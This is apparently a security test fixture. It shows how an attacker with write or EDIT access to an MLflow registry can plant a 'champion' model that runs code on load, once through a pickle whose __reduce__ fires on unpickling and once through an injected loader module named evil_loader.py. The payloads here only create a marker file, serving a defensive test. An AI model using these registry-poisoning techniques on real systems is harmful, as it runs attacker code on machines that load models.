"""What an attacker with write access to the registry can plant as the champion."""

import shutil
import tempfile
from pathlib import Path

import torch


class CreatesFileWhenUnpickled(torch.nn.Module):
    """A 'model' whose unpickling runs code: it creates a file."""

    def __init__(self, marker: Path):
        super().__init__()
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def plant_pickle_champion(store: str, marker: Path, experiment: str = "fashion-mlp") -> None:
    """What an attacker with write access did: log a pickle-format model, register it and move
    the champion alias to it."""
    import mlflow

    mlflow.set_tracking_uri(store)
    with mlflow.start_run(experiment_id=mlflow.get_experiment_by_name(experiment).experiment_id):
        info = mlflow.pytorch.log_model(
            CreatesFileWhenUnpickled(marker),
            name="model",
            serialization_format="pickle",
            pip_requirements=["torch"],  # MLflow's inference would load (and so run) it
        )
    version = mlflow.register_model(info.model_uri, experiment)
    mlflow.MlflowClient().set_registered_model_alias(experiment, "champion", version.version)
    assert not marker.exists()


def plant_code_champion(store: str, marker: Path) -> None:
    """What a member with EDIT on the registered model can do: copy the genuine champion's
    files, add a loader module of their own, log that, register it and move the alias. The
    pt2 data stays genuine; the code runs whenever MLflow's pyfunc loads the model."""
    import mlflow
    import yaml

    client = mlflow.MlflowClient(store)
    mlflow.set_tracking_uri(store)
    genuine = client.get_model_version_by_alias("fashion-mlp", "champion")
    with tempfile.TemporaryDirectory() as scratch:
        folder = Path(mlflow.artifacts.download_artifacts(genuine.source, dst_path=scratch))
        (folder / "registered_model_meta").unlink(missing_ok=True)
        (folder / "code").mkdir()
        (folder / "code/evil_loader.py").write_text(
            f"open({str(marker)!r}, 'w').close()\nfrom mlflow.pytorch import _load_pyfunc\n"
        )
        spec = yaml.safe_load((folder / "MLmodel").read_text())
        spec["flavors"]["python_function"] |= {"loader_module": "evil_loader", "code": "code"}
        (folder / "MLmodel").write_text(yaml.safe_dump(spec))
        experiment = client.get_experiment_by_name("fashion-mlp").experiment_id
        with mlflow.start_run(experiment_id=experiment) as run:
            client.log_artifacts(run.info.run_id, str(folder), "planted")
        source = f"runs:/{run.info.run_id}/planted"
        version = client.create_model_version("fashion-mlp", source, run.info.run_id)
    client.set_registered_model_alias("fashion-mlp", "champion", version.version)
    shutil.rmtree(Path(scratch), ignore_errors=True)
